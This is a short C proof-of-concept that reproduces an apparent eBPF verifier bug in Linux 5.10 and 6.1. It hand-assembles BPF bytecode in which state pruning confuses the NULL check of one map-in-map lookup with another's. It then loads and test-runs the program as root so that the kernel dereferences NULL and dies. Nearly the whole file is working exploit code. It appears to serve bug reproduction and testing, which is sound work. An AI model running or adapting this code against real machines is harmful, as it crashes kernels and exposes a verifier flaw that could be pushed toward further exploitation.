/*
 * F10: the verifier of 5.10 and 6.1 takes the check of one lookup in an outer map for that of another.
 *
 *   gcc -static -O1 -o f10 F10-pruned-check.c && ./f10     as root, in a machine that may be lost
 *
 * Where it loads, the program is run: it follows NULL, and the kernel dies. Written by hand.
 *
 * Exit code: none, the kernel died: the bug is there; 0 it is not ("5: EACCES", BPF_PROG_LOAD).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#define I(c, d, s, o, i) { .code = c, .dst_reg = d, .src_reg = s, \
			   .off = o, .imm = i }
#define LOOKUP(k) I(0x62, 10, 0, -8, k), I(0x18, 1, 1, 0, out), \
		  I(0, 0, 0, 0, 0), I(0xbf, 2, 10, 0, 0), \
		  I(0x07, 2, 0, 0, -8), I(0x85, 0, 0, 0, 1)
static int sys(int cmd, union bpf_attr *a)
{
	int r = syscall(SYS_bpf, cmd, a, sizeof(*a));
	printf("%d: %s\n", cmd, r < 0 ? strerrorname_np(errno) : "ok");
	return r;
}
static int map(int type, int inner)
{
	union bpf_attr a = { .map_type = type, .key_size = 4,
			     .value_size = 4, .max_entries = 4,
			     .inner_map_fd = inner };
	return sys(BPF_MAP_CREATE, &a);
}
int main(void)
{
	int key = 1, in = map(BPF_MAP_TYPE_ARRAY, 0);
	int out = map(BPF_MAP_TYPE_ARRAY_OF_MAPS, in);
	union bpf_attr u = { .map_fd = out, .key = (long)&key,
			     .value = (long)&in };
	sys(BPF_MAP_UPDATE_ELEM, &u);
	struct bpf_insn p[] = {
		I(0xbf, 6, 1, 0, 0),
		LOOKUP(0), I(0xbf, 8, 0, 0, 0),		/* r8 = [0]: NULL */
		LOOKUP(1), I(0xbf, 9, 0, 0, 0),		/* r9 = [1] */
		I(0x61, 1, 6, 0, 0),			/* ctx->len */
		I(0x55, 1, 0, 1, 12345),		/* if it is 12345 */
		I(0xbf, 9, 8, 0, 0),			/* then r9 = r8 */
		I(0x55, 9, 0, 2, 0),			/* r9 checked */
		I(0xb7, 0, 0, 0, 0), I(0x95, 0, 0, 0, 0),
		I(0xbf, 1, 8, 0, 0), I(0xbf, 2, 10, 0, 0),
		I(0x07, 2, 0, 0, -8), I(0x85, 0, 0, 0, 1), /* r8 used */
		I(0x55, 0, 0, 2, 0),
		I(0xb7, 0, 0, 0, 0), I(0x95, 0, 0, 0, 0),
		I(0x61, 0, 0, 0, 0),
		I(0xb7, 0, 0, 0, 0), I(0x95, 0, 0, 0, 0) };
	union bpf_attr a = { .prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
		.prog_flags = BPF_F_TEST_STATE_FREQ, .insns = (long)p,
		.insn_cnt = sizeof(p) / sizeof(*p), .license = (long)"GPL" };
	char packet[64] = "";
	int prog = sys(BPF_PROG_LOAD, &a);
	union bpf_attr t = { .test = { .prog_fd = prog, .data_in = (long)packet,
				       .data_size_in = sizeof(packet) } };
	if (prog >= 0)
		sys(BPF_PROG_TEST_RUN, &t);
	return 0;
}
